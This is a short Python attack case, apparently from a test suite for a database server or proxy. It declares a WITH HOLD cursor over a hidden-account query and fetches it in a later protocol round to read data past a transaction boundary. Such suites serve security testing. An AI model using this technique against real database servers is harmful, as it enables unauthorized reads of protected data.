"""Declares a cursor that outlives its transaction, and runs it later."""

from attacks.frames import SYNC, ask, execute, query, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"DECLARE c CURSOR WITH HOLD FOR SELECT account_unseen(1)"))
        return ask(client, whole(b"FETCH ALL FROM c"), SYNC, execute(b"c"), SYNC, rounds=2)
